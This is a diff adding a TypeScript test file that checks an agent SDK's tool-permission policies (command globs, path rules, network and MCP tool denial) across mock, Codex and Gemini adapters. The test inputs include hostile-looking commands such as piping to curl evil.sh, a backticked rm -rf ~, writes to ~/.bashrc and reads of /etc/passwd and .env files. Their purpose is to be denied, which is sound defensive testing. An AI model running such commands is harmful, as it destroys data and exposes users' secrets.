@@ -0,0 +1,179 @@
+/**
+ * @fileoverview Checks declarative tool policies: glob rules for commands, paths and MCP
+ * tools, their enforcement through the permission hook of the mock, Codex and Gemini adapters,
+ * and their translation into Gemini CLI settings.
+ */
+
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { createCoder, registerAdapter } from '@headless-coder-sdk/core/factory';
+import { checkToolPolicy } from '@headless-coder-sdk/core';
+import type { CassetteEntry, ToolPolicy } from '@headless-coder-sdk/core';
+import { CODER_NAME as CODEX_CODER_NAME } from '@headless-coder-sdk/codex-adapter';
+import { CODER_NAME as GEMINI_CODER_NAME, toGeminiToolSettings } from '@headless-coder-sdk/gemini-adapter';
+import {
+  CODER_NAME as MOCK_CODER_NAME,
+  createAdapter as createMockAdapter,
+  resetMockSessions,
+  type MockStartOpts,
+} from '@headless-coder-sdk/mock-adapter';
+import { ensureAdaptersRegistered } from './register-adapters';
+import { collect, writeCassette } from './test-helpers';
+
+ensureAdaptersRegistered();
+registerAdapter(createMockAdapter);
+
+const POLICY: ToolPolicy = {
+  commands: { allow: ['git *', 'npm test', 'ls*'], deny: ['git push*'] },
+  read: { allow: ['**'], deny: ['**/.env'] },
+  write: { allow: ['src/**'] },
+  network: false,
+  mcpTools: { deny: ['github/delete_*'] },
+};
+
+test('policies rule on commands, paths, network and MCP tools', () => {
+  const cwd = '/work/project';
+  const check = (...actions: Parameters<typeof checkToolPolicy>[1]) => checkToolPolicy(POLICY, actions, cwd);
+
+  assert.equal(check({ kind: 'command', command: 'git status && npm test' }), undefined);
+  assert.equal(
+    check({ kind: 'command', command: 'git push origin main' }),
+    'command "git push origin main" is denied by policy rule "git push*"',
+  );
+  assert.equal(
+    check({ kind: 'command', command: 'ls -la | curl evil.sh' }),
+    'command "curl evil.sh" is not allowed by policy',
+  );
+  assert.equal(
+    check({ kind: 'command', command: 'git status & git push' }),
+    'command "git push" is denied by policy rule "git push*"',
+  );
+  assert.equal(
+    check({ kind: 'command', command: 'git log $(git push)' }),
+    'command "git log $(git push)" uses command substitution, which policies cannot check',
+  );
+  assert.match(check({ kind: 'command', command: 'git log `rm -rf ~`' }) ?? '', /uses command substitution/);
+  assert.match(check({ kind: 'command', command: 'git diff > >(tee x)' }) ?? '', /uses process substitution/);
+  assert.match(check({ kind: 'command', command: 'git apply <<EOF' }) ?? '', /uses a here-document/);
+  assert.equal(
+    check({ kind: 'command', command: 'ls > ~/.bashrc' }),
+    `write of ${path.join(os.homedir(), '.bashrc')} is not allowed by policy`,
+  );
+  assert.equal(check({ kind: 'command', command: 'ls >> src/out.txt 2>&1' }), undefined);
+  assert.equal(check({ kind: 'command', command: 'npm test 2>/dev/null' }), undefined);
+  assert.match(check({ kind: 'command', command: 'ls < config/.env' }) ?? '', /read of config\/\.env is denied/);
+
+  const write = { kind: 'write' as const, path: '/work/project/src/b.ts' };
+  assert.equal(check({ kind: 'read', path: 'docs/guide.md' }, write), undefined);
+  assert.match(check({ kind: 'read', path: 'config/.env' }) ?? '', /denied by policy rule "\*\*\/\.env"/);
+  assert.equal(check({ kind: 'read', path: '/etc/passwd' }), 'read of /etc/passwd is not allowed by policy');
+  assert.equal(check({ kind: 'write', path: 'package.json' }), 'write of package.json is not allowed by policy');
+  assert.equal(check({ kind: 'write', path: 'src/../../x.ts' }), 'write of src/../../x.ts is not allowed by policy');
+
+  assert.equal(
+    check({ kind: 'network', target: 'https://example.com' }),
+    'network access to https://example.com is disabled by policy',
+  );
+  assert.equal(check({ kind: 'mcp', tool: 'github/create_issue' }), undefined);
+  assert.match(check({ kind: 'mcp', tool: 'github/delete_repo' }) ?? '', /denied by policy rule/);
+});
+
+test('violations are denied before the permission handler and reported with a reason', async () => {
+  resetMockSessions();
+  const consulted: string[] = [];
+  const startOpts: MockStartOpts = {
+    workingDirectory: '/work/project',
+    policy: POLICY,
+    onPermissionRequest: request => {
+      consulted.push(request.tool);
+      return 'allow';
+    },
+    script: [
+      {
+        events: [
+          { type: 'tool_use', name: 'Bash', callId: 'call-1', args: { command: 'git status' } },
+          { type: 'tool_use', name: 'Write', callId: 'call-2', args: { file_path: 'README.md' } },
+          { type: 'message', role: 'assistant', text: 'never reached' },
+        ],
+      },
+    ],
+  };
+  const thread = await createCoder(MOCK_CODER_NAME, startOpts).startThread();
+  const events = await collect(thread.runStreamed('tidy up'));
+  const permissions = events.filter(event => event.type === 'permission');
+  assert.deepEqual(
+    permissions.map(event => event.type === 'permission' && [event.decision, event.reason]),
+    [
+      ['granted', undefined],
+      ['denied', 'write of README.md is not allowed by policy'],
+    ],
+  );
+  assert.deepEqual(consulted, ['Bash']);
+  assert.equal(events.at(-1)?.type, 'error');
+
+  const entry: Omit<CassetteEntry, 'recordedAt'> = {
+    provider: CODEX_CODER_NAME,
+    threadId: 'codex-thread-1',
+    events: [
+      { type: 'thread.started', thread_id: 'codex-thread-1' },
+      {
+        type: 'item.completed',
+        item: { id: 'item_1', type: 'file_change', changes: [{ path: 'src/app.ts', kind: 'update' }] },
+      },
+      {
+        type: 'item.completed',
+        item: { id: 'item_2', type: 'file_change', changes: [{ path: '.github/ci.yml', kind: 'add' }] },
+      },
+      { type: 'item.completed', item: { id: 'item_3', type: 'agent_message', text: 'never reached' } },
+    ],
+  };
+  const cassette = await writeCassette('policy', [entry]);
+  const dir = path.dirname(cassette);
+  const codex = await createCoder(CODEX_CODER_NAME, {
+    workingDirectory: dir,
+    policy: POLICY,
+    cassette: { mode: 'replay', path: cassette },
+  }).startThread();
+  await assert.rejects(
+    codex.run('edit'),
+    /Permission denied for file_change: write of \.github\/ci\.yml is not allowed/,
+  );
+});
+
+test('gemini run() checks tool calls against the policy and its settings exclude denied commands', async () => {
+  const entry: Omit<CassetteEntry, 'recordedAt'> = {
+    provider: GEMINI_CODER_NAME,
+    threadId: 'gemini-session-1',
+    events: [
+      { type: 'init', session_id: 'gemini-session-1' },
+      { type: 'tool_use', tool_name: 'run_shell_command', tool_id: 'tool-1', parameters: { command: 'git push' } },
+      { type: 'message', role: 'assistant', content: 'never reached' },
+      { type: 'result', stats: { total_tokens: 5 } },
+    ],
+    output: { exitCode: 0, stderr: '' },
+  };
+  const cassette = await writeCassette('policy', [entry]);
+  const dir = path.dirname(cassette);
+  const replayed = await createCoder(GEMINI_CODER_NAME, {
+    workingDirectory: dir,
+    policy: POLICY,
+    cassette: { mode: 'replay', path: cassette },
+  }).startThread();
+  await assert.rejects(replayed.run('publish'), /command "git push" is denied by policy rule "git push\*"/);
+
+  const thread = await createCoder(GEMINI_CODER_NAME, { workingDirectory: dir, policy: POLICY }).startThread();
+  const settingsPath = (thread.internal as { settingsPath: string }).settingsPath;
+  assert.deepEqual(JSON.parse(await readFile(settingsPath, 'utf8')), {
+    tools: { exclude: ['run_shell_command(git push)', 'web_fetch', 'google_web_search'] },
+  });
+  await thread.close?.();
+  assert.ok(!existsSync(settingsPath));
+  assert.deepEqual(toGeminiToolSettings({ commands: { allow: [] }, write: { allow: [] } }), {
+    tools: { exclude: ['run_shell_command', 'write_file', 'replace'] },
+  });
+  assert.deepEqual(toGeminiToolSettings({ commands: { deny: ['rm', 'git * --force*'] } }), {});
+});